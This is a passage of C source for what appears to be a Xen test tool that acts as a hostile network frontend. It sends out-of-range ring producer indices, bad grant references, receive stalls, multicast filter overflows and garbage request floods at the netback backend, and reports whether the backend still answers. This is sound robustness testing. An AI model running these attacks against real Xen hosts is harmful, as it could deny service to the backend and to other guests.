	tx.rsp_cons = tx.sring->rsp_prod;
	probe();
	RING_PUSH_REQUESTS(&tx);
	kick();
	collect(from, from + 1, 2, out, len);
}

/* The attacks dom0 drives step by step; true if ATTACK is one. */
static int stepped(int argc, char **argv)
{
	const char *a = argv[2];
	char res[1024] = "", pr[16] = "-";
	RING_IDX from;
	size_t o = 0;

	if (!strcmp(a, "ctrl")) {
		want_ctrl = 1;
		connect_backend();
		step("connected");
		ctrl_attack(res, sizeof(res));
		from = tx.req_prod_pvt;
		probe();
		RING_PUSH_REQUESTS(&tx);
		kick();
		collect(from, from + 1, 3, pr, sizeof(pr));
		step("probed");
		printf("RESULT attack=ctrl%s probe=%s\n", res,
		       !strcmp(pr, "-") ? "none" : atoi(pr) == NETIF_RSP_OKAY ? "okay" : "error");
	} else if (!strcmp(a, "ctrldis")) {
		char before[16], after[16];

		want_ctrl = 1;
		connect_backend();
		ctrl_req(XEN_NETIF_CTRL_TYPE_GET_HASH_MAPPING_SIZE, 0, 0, 0,
			 before, sizeof(before), NULL);
		/* A tx req_prod far beyond the ring: fatal. */
		xen_wmb();
		tx.sring->req_prod = tx.req_prod_pvt + 4 * RING_SIZE(&tx);
		kick();
		step("disabled");
		ctrl_req(XEN_NETIF_CTRL_TYPE_GET_HASH_MAPPING_SIZE, 0, 0, 0,
			 after, sizeof(after), NULL);
		step("asked");
		printf("RESULT attack=ctrldis before=%s after=%s\n", before, after);
	} else if (!strcmp(a, "rxstall0") || !strcmp(a, "rxstall1")) {
		unsigned long stalled;

		connect_backend();
		if (a[7] == '1')
			rx_post(1);
		step("stalling");
		/*
		 * Buffers at last, with an event only where the backend's
		 * req_event asks for one: it must serve the ring again.
		 */
		stalled = rx_seen;
		rx_repost = 1;
		rx_by_event = 1;
		rx_post(NRXBUF);
		step("posted");
		linger(1);
		printf("RESULT attack=%s rx=%lu after=%lu\n", a, stalled,
		       rx_seen - stalled);
	} else if (!strcmp(a, "rxbadref")) {
		rx_badref = 1;
		rx_repost = 1;
		connect_backend();
		rx_post(NRXBUF);
		step("posted");
		linger(1);
		printf("RESULT attack=rxbadref rx=%lu err=%lu\n", rx_seen, rx_err);
	} else if (!strcmp(a, "mcast")) {
		int add, del, fill = 0, over = 999, i;
		unsigned long g1, g2;

		want_mcast = 1;
		rx_repost = 1;
		connect_backend();
		rx_post(NRXBUF);
		add = mcast_req(XEN_NETIF_EXTRA_TYPE_MCAST_ADD, group1);
		step("joined");
		linger(3);
		g1 = rx_g1;
		g2 = rx_g2;
		del = mcast_req(XEN_NETIF_EXTRA_TYPE_MCAST_DEL, group1);
		step("left");
		linger(3);
		/* The filter's 64 groups (netif.h's limit in-tree), then one more. */
		for (i = 0; i <= 64; i++) {
			uint8_t g[6] = { 0x03, 0x98, 0, 0, 0, (uint8_t)i };

			over = mcast_req(XEN_NETIF_EXTRA_TYPE_MCAST_ADD, g);
			if (i < 64 && over == NETIF_RSP_OKAY)
				fill++;
		}
		printf("RESULT attack=mcast add=%d del=%d g1=%lu g2=%lu g1del=%lu g2del=%lu bcast=%lu fill=%d over=%d\n",
		       add, del, g1, g2, rx_g1 - g1, rx_g2 - g2, rx_bcast, fill, over);
	} else if (!strcmp(a, "rxflip") || !strcmp(a, "rxflip-split")) {
		unsigned int flips, ms, rsp;

		want_split = !strcmp(a, "rxflip-split");
		connect_backend();
		step("connected");
		flips = rx_flip(&ms);
		rsp = rx.sring->rsp_prod - rx.rsp_cons;
		step("flipped");
		rx_repost = 1;
		rx_seen = 0;
		rx_post(NRXBUF);
		linger(3);
		from = tx.req_prod_pvt;
		probe();
		RING_PUSH_REQUESTS(&tx);
		kick();
		collect(from, from + 1, 3, pr, sizeof(pr));
		printf("RESULT attack=%s flips=%u ms=%u rsp=%u rx=%lu big=%lu probe=%s\n",
		       a, flips, ms, rsp, rx_seen, rx_big,
		       !strcmp(pr, "-") ? "none" : atoi(pr) == NETIF_RSP_OKAY ? "okay" : "error");
	} else if (!strcmp(a, "garbage") && argc == 4) {
		unsigned int answered, tries;
		RING_IDX prod;

		rx_repost = 1;
		connect_backend();
		/* Room for what the bridge floods: no receive stall. */
		rx_post(NRXBUF);
		prod = garbage(strtoul(argv[3], NULL, 0), &answered);
		for (tries = 1; tries <= 4; tries++) {
			probe_again(pr, sizeof(pr));
			if (pr[0] != '-' && atoi(pr) == NETIF_RSP_OKAY)
				break;
		}
		o += snprintf(res + o, sizeof(res) - o, " seed=%s prod=%u answered=%u probe=%s tries=%u",
			      argv[3], prod, answered,
			      !strcmp(pr, "-") ? "none" : atoi(pr) == NETIF_RSP_OKAY ? "okay" : "error",
			      tries > 4 ? 4 : tries);
		step("judge");
		printf("RESULT attack=garbage%s\n", res);
	} else {
		return 0;
	}
	fflush(stdout);
	disconnect_backend();
	xs_write("data/nbh-step", "done");
	return 1;
}

int main(int argc, char **argv)
{
	char bad[MAX_SLOTS * 4 + 8] = "-", pr[16];
	const char *verdict;
	RING_IDX from;
	unsigned int i;

	if (argc != 3 && argc != 4) {
		fprintf(stderr, "usage: nbhostile DEVID ATTACK [SEED]\n");
		return 2;
	}
	snprintf(fe, sizeof(fe), "device/vif/%s", argv[1]);
	setup();
	if (stepped(argc, argv))
		return 0;
	connect_backend();

	if (!strcmp(argv[2], "far")) {
		/*
		 * A real probe in the next slot, but the producer index far
		 * beyond it: a backend that did not stop would answer it.
		 */
		from = tx.req_prod_pvt;
		probe();
		xen_wmb();
		tx.sring->req_prod = tx.req_prod_pvt + 4 * RING_SIZE(&tx);
		kick();
	} else if (!strcmp(argv[2], "txback")) {
		from = tx.req_prod_pvt;
		frame(0, 200);
		slot(0, 0, 200, NETTXF_more_data);
		slot(1, 0, 100, NETTXF_more_data);
		RING_PUSH_REQUESTS(&tx);
		kick();
		for (i = 0; i < 100 && tx.sring->req_event != from + 3; i++)
			usleep(50000);
		snprintf(bad, sizeof(bad), "%s",
			 tx.sring->req_event == from + 3 ? "seen" : "unseen");
		tx.sring->req_prod = from + 1;
		kick();
		usleep(500000);
		from = tx.req_prod_pvt;
		probe();
		RING_PUSH_REQUESTS(&tx);
		kick();
	} else {
		from = tx.req_prod_pvt;
		attack(argv[2]);
		if (tx.req_prod_pvt != from) {
			RING_PUSH_REQUESTS(&tx);
			kick();
			collect(from, tx.req_prod_pvt, 2, bad, sizeof(bad));
		}
		from = tx.req_prod_pvt;
		probe();
		RING_PUSH_REQUESTS(&tx);
		kick();
	}
	collect(from, from + 1, 3, pr, sizeof(pr));
	if (!strcmp(pr, "-"))
		verdict = "none";
	else
		verdict = atoi(pr) == NETIF_RSP_OKAY ? "okay" : "error";
	printf("RESULT attack=%s bad=%s probe=%s\n", argv[2], bad, verdict);
	fflush(stdout);
	disconnect_backend();
	return 0;
}
